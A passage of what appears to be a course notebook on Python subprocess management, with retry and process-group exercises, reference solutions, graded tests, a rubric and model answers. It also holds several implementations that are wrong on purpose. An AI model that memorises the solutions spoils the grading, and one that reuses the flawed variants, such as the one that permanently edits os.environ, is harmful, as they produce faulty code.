# - `child_env()` returns a **new** dict: a copy of `os.environ` with `env` applied. `os.environ`
#   itself never changes.
# - `run(args)` runs `args` (no shell, text output captured) with `child_env()` and `timeout`.
#   An attempt **fails** when its return code is not 0 or it runs out of time (then the child is
#   killed, as `subprocess.run` does, and its code counts as `None`). A failed attempt is retried, up
#   to `retries` more times; a successful one is not. It returns the **last** attempt as
#   `RunResult(returncode, stdout, stderr, attempts)`; for a timed-out attempt `stdout` and `stderr`
#   are what had been read from the child before it was stopped, as `str` (`""` if nothing).
# - every attempt appends one line to `self.log`:
#   `"attempt 1/3: <shlex.join(args)> -> exit 0"` or `"attempt 1/3: <...> -> timed out after 0.5 s"`
#   (`3` being `retries + 1`).
#
# ```python
# runner = CommandRunner(retries=2, env={"STAGE": "prod"})
# runner.run(py("import os; print(os.environ['STAGE'])"))
# # RunResult(returncode=0, stdout='prod\n', stderr='', attempts=1)
# ```

# %% [markdown] course={"kind": "hint"}
# A loop over `range(1, self.retries + 2)`: run, catch `subprocess.TimeoutExpired`, log, and `return`
# as soon as an attempt succeeds or it was the last one.

# %% [markdown] course={"kind": "hint"}
# `TimeoutExpired.stdout` is `bytes` or `None` even with `text=True`: `(err.stdout or b"").decode()`.
# For the environment: `env = dict(os.environ)`, then set or `env.pop(name, None)`.

# %% course={"kind": "solution"}
from dataclasses import dataclass


@dataclass(frozen=True)
class RunResult:
    returncode: int | None  # None: the last attempt ran out of time
    stdout: str
    stderr: str
    attempts: int


class CommandRunner:
    def __init__(self, *, timeout: float = 60.0, retries: int = 0, env: dict[str, str | None] | None = None) -> None:
        self.timeout = timeout
        self.retries = retries
        self.env = dict(env or {})
        self.log: list[str] = []

    def child_env(self) -> dict[str, str]:
        ### BEGIN SOLUTION
        env = dict(os.environ)
        for name, value in self.env.items():
            if value is None:
                env.pop(name, None)
            else:
                env[name] = value
        return env
        ### END SOLUTION

    def run(self, args: list[str]) -> RunResult:
        ### BEGIN SOLUTION
        tries = self.retries + 1
        for attempt in range(1, tries + 1):
            try:
                done = subprocess.run(args, capture_output=True, text=True, timeout=self.timeout, env=self.child_env())
                result = RunResult(done.returncode, done.stdout, done.stderr, attempt)
                outcome = f"exit {done.returncode}"
            except subprocess.TimeoutExpired as err:
                result = RunResult(None, (err.stdout or b"").decode(), (err.stderr or b"").decode(), attempt)
                outcome = f"timed out after {self.timeout} s"
            self.log.append(f"attempt {attempt}/{tries}: {shlex.join(args)} -> {outcome}")
            if result.returncode == 0:
                break
        return result
        ### END SOLUTION

# %% course={"kind": "test", "points": 1}
with ProcessWatch() as watch:
    runner = CommandRunner()
    hi = py("print('hi')")
    got = runner.run(hi)
    assert got == RunResult(0, "hi\n", "", 1), f"got {got!r}"
    bad = py("import sys; print('nope', file=sys.stderr); sys.exit(2)")
    got = runner.run(bad)
    assert got == RunResult(2, "", "nope\n", 1), f"no retries: one attempt, its code and stderr; got {got!r}"
    assert runner.log == [f"attempt 1/1: {shlex.join(hi)} -> exit 0",
                          f"attempt 1/1: {shlex.join(bad)} -> exit 2"], f"log: {runner.log}"
    assert watch.unreaped() == []

# %% course={"kind": "test", "points": 2}
with tempfile.TemporaryDirectory() as tmp:
    flaky = py(FLAKY, os.path.join(tmp, "a"), "3")  # fails twice, then succeeds
    runner = CommandRunner(retries=2)
    got = runner.run(flaky)
    assert got == RunResult(0, "ok on run 3\n", "", 3), f"two retries are enough: {got!r}"
    assert runner.log == [f"attempt {n}/3: {shlex.join(flaky)} -> exit {c}" for n, c in ((1, 1), (2, 1), (3, 0))], runner.log
    flaky = py(FLAKY, os.path.join(tmp, "b"), "3")
    got = CommandRunner(retries=1).run(flaky)
    assert got == RunResult(1, "", "run 2 failed\n", 2), f"one retry is not enough: the last attempt, {got!r}"
    once = py(FLAKY, os.path.join(tmp, "c"), "1")
    got = CommandRunner(retries=5).run(once)
    assert got == RunResult(0, "ok on run 1\n", "", 1), f"a success is not retried: {got!r}"

# %% course={"kind": "test", "points": 2}
os.environ["COURSE_RUNNER_SECRET"] = "s3cret"
try:
    overrides = {"COURSE_STAGE": "prod", "COURSE_RUNNER_SECRET": None, "COURSE_EMPTY": "", "COURSE_CITY": "Zürich"}
    runner = CommandRunner(env=overrides)
    overrides["COURSE_STAGE"] = "changed later"
    keys = ("COURSE_STAGE", "COURSE_RUNNER_SECRET", "COURSE_EMPTY", "COURSE_CITY", "PATH")
    seen = __import__("json").loads(runner.run(py(SHOW_ENV, *keys)).stdout)
    want = {"COURSE_STAGE": "prod", "COURSE_RUNNER_SECRET": None, "COURSE_EMPTY": "", "COURSE_CITY": "Zürich",
            "PATH": os.environ.get("PATH")}
    assert seen == want, f"the child's environment: {seen}"
    assert os.environ["COURSE_RUNNER_SECRET"] == "s3cret" and "COURSE_STAGE" not in os.environ, "os.environ must not change"
    env = runner.child_env()
    assert env is not os.environ and type(env) is dict and env["COURSE_STAGE"] == "prod", "child_env() is a new dict"
    assert "COURSE_RUNNER_SECRET" not in env and CommandRunner().child_env() == dict(os.environ)
finally:
    del os.environ["COURSE_RUNNER_SECRET"]

# %% course={"kind": "test", "points": 2}
def timed_out_attempt_retried(seconds):
    """FLAKY's run 1 hangs until killed, run 2 succeeds at once."""
    with ProcessWatch() as watch, tempfile.TemporaryDirectory() as tmp:
        hangs_once = py(FLAKY, os.path.join(tmp, "d"), "2", "slow")
        runner = CommandRunner(timeout=seconds, retries=1)
        got = watch.call(runner.run, hangs_once, idle=seconds)
        if got.attempts == 2 and runner.log[-1].endswith(f"timed out after {seconds} s"):
            raise Inconclusive  # the quick run 2 did not even start in time: give it more
        assert got == RunResult(0, "ok on run 2\n", "", 2), f"a timed-out attempt is retried: {got!r}"
        assert runner.log[0] == f"attempt 1/2: {shlex.join(hangs_once)} -> timed out after {seconds} s", runner.log
        assert watch.unreaped() == [], "a timed-out child is killed and reaped"


def output_before_timeout(seconds):
    with ProcessWatch() as watch, tempfile.TemporaryDirectory() as tmp:
        said = os.path.join(tmp, "said step 1")
        got = watch.call(CommandRunner(timeout=seconds).run, py(SLOW, said), idle=seconds)
        assert got.returncode is None and type(got.stdout) is str, f"timed out: code None, output as str: {got!r}"
        if not got.stdout and not os.path.exists(said):
            raise Inconclusive  # stopped before we had read anything: give it more time
        assert got == RunResult(None, "step 1\n", "", 1), f"the output written before the timeout: {got!r}"
        assert watch.unreaped() == [], "a timed-out child is killed and reaped"


with_more_time(timed_out_attempt_retried, first=0.6)  # 0.6, 1.2, 2.4...: no number that prints as "1.0"
with_more_time(output_before_timeout)

# %% course={"kind": "wrong", "id": "env-replaces"}
from dataclasses import dataclass


@dataclass(frozen=True)
class RunResult:
    returncode: int | None
    stdout: str
    stderr: str
    attempts: int


class CommandRunner:
    def __init__(self, *, timeout=60.0, retries=0, env=None):
        self.timeout, self.retries, self.env, self.log = timeout, retries, dict(env or {}), []

    def child_env(self):
        return {k: v for k, v in self.env.items() if v is not None}  # PATH, HOME... are gone

    def run(self, args):
        tries = self.retries + 1
        for attempt in range(1, tries + 1):
            try:
                done = subprocess.run(args, capture_output=True, text=True, timeout=self.timeout, env=self.child_env())
                result, outcome = RunResult(done.returncode, done.stdout, done.stderr, attempt), f"exit {done.returncode}"
            except subprocess.TimeoutExpired as err:
                result = RunResult(None, (err.stdout or b"").decode(), (err.stderr or b"").decode(), attempt)
                outcome = f"timed out after {self.timeout} s"
            self.log.append(f"attempt {attempt}/{tries}: {shlex.join(args)} -> {outcome}")
            if result.returncode == 0:
                break
        return result

# %% course={"kind": "wrong", "id": "retries-count-tries"}
from dataclasses import dataclass


@dataclass(frozen=True)
class RunResult:
    returncode: int | None
    stdout: str
    stderr: str
    attempts: int


class CommandRunner:
    def __init__(self, *, timeout=60.0, retries=0, env=None):
        self.timeout, self.retries, self.env, self.log = timeout, retries, dict(env or {}), []

    def child_env(self):
        env = dict(os.environ)
        for name, value in self.env.items():
            if value is None:
                env.pop(name, None)
            else:
                env[name] = value
        return env

    def run(self, args):
        tries = max(1, self.retries)  # "retries=2" read as two attempts in all
        for attempt in range(1, tries + 1):
            try:
                done = subprocess.run(args, capture_output=True, text=True, timeout=self.timeout, env=self.child_env())
                result, outcome = RunResult(done.returncode, done.stdout, done.stderr, attempt), f"exit {done.returncode}"
            except subprocess.TimeoutExpired as err:
                result = RunResult(None, (err.stdout or b"").decode(), (err.stderr or b"").decode(), attempt)
                outcome = f"timed out after {self.timeout} s"
            self.log.append(f"attempt {attempt}/{tries}: {shlex.join(args)} -> {outcome}")
            if result.returncode == 0:
                break
        return result

# %% course={"kind": "wrong", "id": "timeout-not-caught"}
from dataclasses import dataclass


@dataclass(frozen=True)
class RunResult:
    returncode: int | None
    stdout: str
    stderr: str
    attempts: int


class CommandRunner:
    def __init__(self, *, timeout=60.0, retries=0, env=None):
        self.timeout, self.retries, self.env, self.log = timeout, retries, dict(env or {}), []

    def child_env(self):
        env = dict(os.environ)
        for name, value in self.env.items():
            if value is None:
                env.pop(name, None)
            else:
                env[name] = value
        return env

    def run(self, args):
        tries = self.retries + 1
        for attempt in range(1, tries + 1):  # TimeoutExpired escapes: no retry, no log line
            done = subprocess.run(args, capture_output=True, text=True, timeout=self.timeout, env=self.child_env())
            result = RunResult(done.returncode, done.stdout, done.stderr, attempt)
            self.log.append(f"attempt {attempt}/{tries}: {shlex.join(args)} -> exit {done.returncode}")
            if result.returncode == 0:
                break
        return result

# %% course={"kind": "wrong", "id": "edits-os-environ"}
from dataclasses import dataclass


@dataclass(frozen=True)
class RunResult:
    returncode: int | None
    stdout: str
    stderr: str
    attempts: int


class CommandRunner:
    def __init__(self, *, timeout=60.0, retries=0, env=None):
        self.timeout, self.retries, self.env, self.log = timeout, retries, dict(env or {}), []

    def child_env(self):
        for name, value in self.env.items():  # changes the parent's environment for good
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value
        return os.environ

    def run(self, args):
        tries = self.retries + 1
        for attempt in range(1, tries + 1):
            try:
                done = subprocess.run(args, capture_output=True, text=True, timeout=self.timeout, env=self.child_env())
                result, outcome = RunResult(done.returncode, done.stdout, done.stderr, attempt), f"exit {done.returncode}"
            except subprocess.TimeoutExpired as err:
                result = RunResult(None, (err.stdout or b"").decode(), (err.stderr or b"").decode(), attempt)
                outcome = f"timed out after {self.timeout} s"
            self.log.append(f"attempt {attempt}/{tries}: {shlex.join(args)} -> {outcome}")
            if result.returncode == 0:
                break
        return result

# %% [markdown] course={"kind": "exercise", "id": "process-manager-core", "item": "project-7-3-2"}
# ### Project core: a process manager
#
# The heart of a supervisor such as `supervisord`. Complete `ProcessManager`, which keeps named child
# processes in `self.procs` (name → `Popen`) and their argument lists in `self.args`:
#
# - `start(name, args)` starts `args` (no shell, stdin from `subprocess.DEVNULL`) as the leader of
#   **its own process group**, records it and returns the `Popen`. Starting a name that is still
#   running raises `ValueError`; a name whose process has ended may be started again.
# - `status(name)` returns `"running"`, `"exited 3"` or `"killed by SIGTERM"` (unknown name: `KeyError`).
# - `stop(name, grace=5.0)` stops the **whole group**: SIGTERM to the group, up to `grace` seconds for
#   the leader to exit, then SIGKILL to whatever is left of the group (the group may be gone already:
#   that is fine). It reaps the leader and returns its return code; an ended process just gives its code.
# - `restart(name, grace=5.0)`: stop, then start again with the same arguments; returns the new `Popen`.
# - `stop_all(grace=5.0)`: stops every process, **last started first**, and returns `{name: code}` in
#   that order.
#
# ```python
# manager = ProcessManager()
# manager.start("web", py(SLEEPER))
# manager.status("web")        # 'running'
# manager.stop("web")          # -15: SLEEPER has no handler, SIGTERM ends it
# manager.status("web")        # 'killed by SIGTERM'
# ```

# %% [markdown] course={"kind": "hint"}
# `start_new_session=True` makes the child a group leader: its group id is its pid, so
# `os.killpg(proc.pid, sig)` reaches it and everything it starts. Wrap each `killpg` in
# `try` / `except ProcessLookupError`.

# %% [markdown] course={"kind": "hint"}
# `stop` is your `stop()` from the exercise above, with `os.killpg` where it had `terminate()` and
# `kill()`, plus one more SIGKILL to the group after the leader has ended (its children may still run).

# %% course={"kind": "solution"}
class ProcessManager:
    """Named child processes, each leading its own process group."""

    def __init__(self) -> None:
        self.procs: dict[str, subprocess.Popen] = {}
        self.args: dict[str, list[str]] = {}

    def start(self, name: str, args: list[str]) -> subprocess.Popen:
        ### BEGIN SOLUTION
        if name in self.procs and self.procs[name].poll() is None:
            raise ValueError(f"{name} is already running")
        proc = subprocess.Popen(args, stdin=subprocess.DEVNULL, start_new_session=True)
        self.procs[name], self.args[name] = proc, list(args)
        return proc
        ### END SOLUTION

    def status(self, name: str) -> str:
        ### BEGIN SOLUTION
        code = self.procs[name].poll()
        if code is None:
            return "running"
        if code < 0:
            return f"killed by {signal.Signals(-code).name}"
        return f"exited {code}"
        ### END SOLUTION

    def stop(self, name: str, grace: float = 5.0) -> int:
        ### BEGIN SOLUTION
        proc = self.procs[name]
        if proc.poll() is not None:
            return proc.returncode
        self._signal_group(proc, signal.SIGTERM)
        try:
            proc.wait(timeout=grace)
        except subprocess.TimeoutExpired:
            pass
        self._signal_group(proc, signal.SIGKILL)  # the leader if it is still there, and what it started
        return proc.wait()
        ### END SOLUTION

    def _signal_group(self, proc: subprocess.Popen, signum: int) -> None:
        ### BEGIN SOLUTION
        try:
            os.killpg(proc.pid, signum)
        except ProcessLookupError:
            pass  # nobody left in the group
        ### END SOLUTION

    def restart(self, name: str, grace: float = 5.0) -> subprocess.Popen:
        ### BEGIN SOLUTION
        self.stop(name, grace)
        return self.start(name, self.args[name])
        ### END SOLUTION

    def stop_all(self, grace: float = 5.0) -> dict[str, int]:
        ### BEGIN SOLUTION
        return {name: self.stop(name, grace) for name in reversed(self.procs)}
        ### END SOLUTION

# %% course={"kind": "test", "points": 1}
with ProcessWatch() as watch:
    manager = ProcessManager()
    web = manager.start("web", py(SLEEPER))
    assert isinstance(web, subprocess.Popen) and manager.procs == {"web": web}, "start returns and records the Popen"
    assert manager.status("web") == "running", f"status: {manager.status('web')!r}"
    code = watch.call(manager.stop, "web")
    assert code == -signal.SIGTERM and manager.status("web") == "killed by SIGTERM", f"stop gave {code!r}"
    job = manager.start("job", py("raise SystemExit(3)"))
    job.wait()
    assert manager.status("job") == "exited 3", f"status of an ended process: {manager.status('job')!r}"
    assert watch.call(manager.stop, "job") == 3, "stopping an ended process gives its code"
    try:
        manager.status("nobody")
    except KeyError:
        pass
    else:
        raise AssertionError("an unknown name raises KeyError")

# %% course={"kind": "test", "points": 1}
with ProcessWatch() as watch:
    manager = ProcessManager()
    first = manager.start("web", py(SLEEPER))
    try:
        manager.start("web", py(SLEEPER))
    except ValueError:
        pass
    else:
        raise AssertionError("starting a running name again must raise ValueError")
    assert len(watch.started) == 1, "nothing new may start for a name that is running"
    second = watch.call(manager.restart, "web")
    assert second is not first and second.pid != first.pid and manager.procs["web"] is second, "restart: a new process"
    assert first.returncode == -signal.SIGTERM and manager.status("web") == "running", "the old one stopped, the new one runs"
    assert second.args == first.args and manager.args["web"] == py(SLEEPER), "with the same arguments"
    watch.call(manager.stop, "web")
    again = manager.start("web", py(SLEEPER))
    assert manager.procs["web"] is again, "an ended name may be started again"
    command = py(SLEEPER)
    manager.start("copy", command)
    command.append("--changed-by-the-caller")
    assert manager.args["copy"] == py(SLEEPER), "keep a copy of args: the caller may change the list later"

# %% course={"kind": "test", "points": 2}
with ProcessWatch() as watch, tempfile.TemporaryDirectory() as tmp:
    manager = ProcessManager()
    flag = os.path.join(tmp, "ignoring")
    stubborn = manager.start("stubborn", py(IGNORES_TERM, flag))
    assert wait_for_path(flag, stubborn), "the child did not start"  # handshake: it ignores SIGTERM from now on
    code = watch.call(manager.stop, "stubborn", 0.3)
    assert code == -signal.SIGKILL, f"SIGTERM ignored: SIGKILL after the grace period, got {code!r}"
    assert watch.unreaped() == [], "reap it"
    flag = os.path.join(tmp, "handler-ready")
    careful = manager.start("careful", py(CLEANS_UP, flag))
    assert wait_for_path(flag, careful), "the child did not start"
    code = watch.call(manager.stop, "careful", 30.0)
    assert code == 0, f"a 0.2 s cleanup fits in a 30 s grace period: wait before SIGKILL (got {code!r})"

# %% course={"kind": "test", "points": 2}
with ProcessWatch() as watch, Grandchild(watch) as grandchild:
    manager = ProcessManager()
    launcher = manager.start("launcher", py(FORKING, grandchild.path))
    grandchild.wait_started(launcher)  # handshake: the grandchild runs and holds the FIFO
    code = watch.call(manager.stop, "launcher", 2.0)
    assert code == -signal.SIGTERM, f"the launcher has no handler: SIGTERM ends it, got {code!r}"
    assert grandchild.gone(), "the grandchild still runs: signal the whole process group"
with ProcessWatch() as watch, Grandchild(watch) as grandchild:
    manager = ProcessManager()
    launcher = manager.start("launcher", py(FORKING, grandchild.path, "ignore-term"))
    grandchild.wait_started(launcher)  # handshake: the grandchild ignores SIGTERM from now on
    code = watch.call(manager.stop, "launcher", 0.3)
    assert code == -signal.SIGTERM, f"the launcher has no handler: SIGTERM ends it, got {code!r}"
    assert grandchild.gone(), "a grandchild ignoring SIGTERM still runs: SIGKILL the group once the leader has ended"

# %% course={"kind": "test", "points": 1}
with ProcessWatch() as watch:
    manager = ProcessManager()
    for name in ("db", "api", "worker"):
        manager.start(name, py(SLEEPER))
    manager.start("done", py("pass")).wait()
    codes = watch.call(manager.stop_all)
    assert list(codes) == ["done", "worker", "api", "db"], f"last started, first stopped: {list(codes)}"
    assert codes == {"done": 0, "worker": -15, "api": -15, "db": -15}, f"codes: {codes}"
    assert watch.unreaped() == [] and all(manager.status(n) != "running" for n in codes), "everything stopped and reaped"
    assert watch.call(manager.stop_all) == {"done": 0, "worker": -15, "api": -15, "db": -15}, "a second stop_all is harmless"

# %% course={"kind": "wrong", "id": "leader-only"}
class ProcessManager:
    def __init__(self):
        self.procs, self.args = {}, {}

    def start(self, name, args):
        if name in self.procs and self.procs[name].poll() is None:
            raise ValueError(name)
        proc = subprocess.Popen(args, stdin=subprocess.DEVNULL)  # no group of its own
        self.procs[name], self.args[name] = proc, list(args)
        return proc

    def status(self, name):
        code = self.procs[name].poll()
        if code is None:
            return "running"
        return f"killed by {signal.Signals(-code).name}" if code < 0 else f"exited {code}"

    def stop(self, name, grace=5.0):
        proc = self.procs[name]
        if proc.poll() is not None:
            return proc.returncode
        proc.terminate()  # the leader only: what it started keeps running
        try:
            return proc.wait(timeout=grace)
        except subprocess.TimeoutExpired:
            proc.kill()
            return proc.wait()

    def restart(self, name, grace=5.0):
        self.stop(name, grace)
        return self.start(name, self.args[name])

    def stop_all(self, grace=5.0):
        return {name: self.stop(name, grace) for name in reversed(list(self.procs))}

# %% course={"kind": "wrong", "id": "kill-leader-after-grace", "fails": ["t4"]}
class ProcessManager:
    def __init__(self):
        self.procs, self.args = {}, {}

    def start(self, name, args):
        if name in self.procs and self.procs[name].poll() is None:
            raise ValueError(name)
        proc = subprocess.Popen(args, stdin=subprocess.DEVNULL, start_new_session=True)
        self.procs[name], self.args[name] = proc, list(args)
        return proc

    def status(self, name):
        code = self.procs[name].poll()
        if code is None:
            return "running"
        return f"killed by {signal.Signals(-code).name}" if code < 0 else f"exited {code}"

    def stop(self, name, grace=5.0):
        proc = self.procs[name]
        if proc.poll() is not None:
            return proc.returncode
        try:
            os.killpg(proc.pid, signal.SIGTERM)
        except ProcessLookupError:
            pass
        try:
            return proc.wait(timeout=grace)  # the leader ended: but what it started may ignore SIGTERM
        except subprocess.TimeoutExpired:
            proc.kill()  # and SIGKILL for the leader only
            return proc.wait()

    def restart(self, name, grace=5.0):
        self.stop(name, grace)
        return self.start(name, self.args[name])

    def stop_all(self, grace=5.0):
        return {name: self.stop(name, grace) for name in reversed(list(self.procs))}

# %% course={"kind": "wrong", "id": "start-order-stop"}
class ProcessManager:
    def __init__(self):
        self.procs, self.args = {}, {}

    def start(self, name, args):
        if name in self.procs and self.procs[name].poll() is None:
            raise ValueError(name)
        proc = subprocess.Popen(args, stdin=subprocess.DEVNULL, start_new_session=True)
        self.procs[name], self.args[name] = proc, list(args)
        return proc

    def status(self, name):
        code = self.procs[name].poll()
        if code is None:
            return "running"
        return f"killed by {signal.Signals(-code).name}" if code < 0 else f"exited {code}"

    def stop(self, name, grace=5.0):
        proc = self.procs[name]
        if proc.poll() is not None:
            return proc.returncode
        try:
            os.killpg(proc.pid, signal.SIGTERM)
        except ProcessLookupError:
            pass
        try:
            proc.wait(timeout=grace)
        except subprocess.TimeoutExpired:
            pass
        try:
            os.killpg(proc.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        return proc.wait()

    def restart(self, name, grace=5.0):
        self.stop(name, grace)
        return self.start(name, self.args[name])

    def stop_all(self, grace=5.0):
        return {name: self.stop(name, grace) for name in self.procs}  # dependencies stop before their users

# %% course={"kind": "wrong", "id": "any-name-twice"}
class ProcessManager:
    def __init__(self):
        self.procs, self.args = {}, {}

    def start(self, name, args):
        if name in self.procs:  # an ended process can never be started again
            raise ValueError(name)
        proc = subprocess.Popen(args, stdin=subprocess.DEVNULL, start_new_session=True)
        self.procs[name], self.args[name] = proc, list(args)
        return proc

    def status(self, name):
        code = self.procs[name].poll()
        if code is None:
            return "running"
        return f"killed by {signal.Signals(-code).name}" if code < 0 else f"exited {code}"

    def stop(self, name, grace=5.0):
        proc = self.procs[name]
        if proc.poll() is not None:
            return proc.returncode
        try:
            os.killpg(proc.pid, signal.SIGTERM)
        except ProcessLookupError:
            pass
        try:
            proc.wait(timeout=grace)
        except subprocess.TimeoutExpired:
            pass
        try:
            os.killpg(proc.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        return proc.wait()

    def restart(self, name, grace=5.0):
        self.stop(name, grace)
        del self.procs[name]
        return self.start(name, self.args[name])

    def stop_all(self, grace=5.0):
        return {name: self.stop(name, grace) for name in reversed(list(self.procs))}

# %% [markdown] course={"kind": "task", "id": "process-manager", "points": 5, "item": "project-7-3-2"}
# ### Project: turn the core into a small supervisor
#
# Take your `ProcessManager` into a module of your own (`procman.py`) and make it a little supervisor,
# like `supervisord` or a container's init process:
#
# - each program's stdout and stderr go to a log file of its own (`logs/<name>.log`), appended across restarts;
# - `status()` with no name returns every program's state, using your `explain_exit()` for ended ones;
# - `check()` restarts programs that ended with a non-zero code, at most N times per program, and then
#   reports them as failed instead of restarting for ever; a health check can be a command (exit 0 =
#   healthy) run with your `run_with_timeout`;
# - a main loop under `GracefulShutdown`: on SIGTERM or Ctrl-C it calls `stop_all()` and exits 0; a second
#   signal kills every group at once.
#
# Demonstrate it with three child Python programs (one healthy, one that crashes after a moment, one
# that ignores SIGTERM) and a short write-up of what happens when you stop the manager with `kill <pid>`.

# %% [markdown] course={"kind": "rubric"}
# - (1) Programs run without a shell, each in its own process group; `stop` signals the group, not just the leader.
# - (1) SIGTERM, grace period, SIGKILL, in that order; every child is reaped: no zombies, nothing left
#   running after the manager exits (check with `ps -o pid,pgid,stat,cmd`).
# - (1) `status` tells "running", an exit code and death by signal apart; `check` restarts crashed
#   programs and gives up after its limit instead of looping.
# - (1) The manager's own shutdown is graceful: handler only sets a flag, the main loop stops the
#   programs, the handlers are restored; a second signal forces the kill.
# - (1) The demo and write-up show all three programs and explain the stubborn one's SIGKILL.

# %% [markdown] course={"kind": "answer", "question": "q-what-is-the-difference-between"}
# `subprocess.run()` is the convenience function: it starts the program, waits for it to end and
# returns a `CompletedProcess` (return code, captured output); with `check=True` it raises on failure,
# with `timeout=` it kills the child when time is up. It is built on `Popen`. `Popen` only **starts** the
# program and returns while it runs: you then read and write its pipes, `poll()`, `wait()`, or send it
# signals yourself. Use `run()` for "run this and tell me how it went" (most automation). Use `Popen`
# when you need the process while it runs: a pipeline of several programs, streaming output line by
# line, a server you start and stop later, your own timeout policy (SIGTERM, then SIGKILL, for a
# whole process group). With `Popen`, reading output through `communicate()` avoids the full-pipe deadlock.

# %% [markdown] course={"kind": "answer", "question": "q-how-do-you-prevent-shell-injection"}
# Do not give untrusted text to a shell. Pass the command as a **list** (`shell=False`, the default):
# each element is one argument and `;`, `$()`, backticks or `|` are only characters. When a shell is truly
# needed (a pipeline inside `ssh host '...'`, a `bash -c` step), quote every untrusted value with
# `shlex.quote()` (or build the whole line with `shlex.join()`), never by hand with `'...'` or `"..."`.
# Add an **allow-list** for what may run at all, and for values that could be read as options put `--`
# before them (`rm -- "$name"`, `grep -e "$pattern" -- "$file"`), since quoting does not stop `-rf` from
# being an option. (For git, `--` means "paths follow": `git checkout -- "$x"` restores a file named `$x`.)
# Avoid `os.system()` and `shell=True` with f-strings; linters such as bandit flag them (B602, B605).

# %% [markdown] course={"kind": "answer", "question": "q-how-do-you-handle-process-timeouts"}
# Always set one for anything that can hang (network, locks, a prompt waiting for input). For a simple
# call, `subprocess.run(args, timeout=s)` kills the child and raises `TimeoutExpired`; catch it, log it,
# and decide whether to retry (its `.stdout` is bytes or `None`). With `Popen`, `communicate(timeout=s)`
# raises but does **not** kill: kill, then call `communicate()` again to collect the output and reap the
# child. If the child starts children of its own (shell scripts, `make`, launchers), start it with
# `start_new_session=True` and kill the group with `os.killpg(proc.pid, signal.SIGKILL)`; otherwise the
# grandchildren survive and can keep your pipe open. Prefer SIGTERM with a short grace period before
# SIGKILL when the program can clean up.

# %% [markdown] course={"kind": "answer", "question": "q-how-do-you-implement-graceful-shutdown"}
# In the program being stopped: install handlers for SIGTERM (and SIGINT) with `signal.signal`; the handler
# only sets a flag (no I/O, no locks). The main loop checks the flag between units of work, stops
# accepting new work, finishes or checkpoints the current job, flushes and closes connections, and exits
# with code 0, well within the platform's grace period (Kubernetes: `terminationGracePeriodSeconds`, 30 s by
# default, then SIGKILL). A second signal can force an immediate exit. As PID 1 in a container, forward
# signals to children (or use `tini`/`dumb-init`), since PID 1 gets no default signal actions. On the
# side that stops processes: SIGTERM, wait with a timeout, then SIGKILL, and always reap.
